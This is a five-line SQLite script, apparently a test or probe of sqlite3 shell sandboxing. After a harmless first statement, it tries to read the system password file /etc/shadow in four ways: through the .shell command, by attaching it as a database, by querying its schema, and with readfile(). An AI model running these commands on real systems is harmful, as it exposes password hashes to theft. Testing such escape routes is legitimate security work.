SELECT 'begun';
.shell cat /etc/shadow
ATTACH '/etc/shadow' AS shadow;
SELECT * FROM shadow.sqlite_master;
SELECT readfile('/etc/shadow');
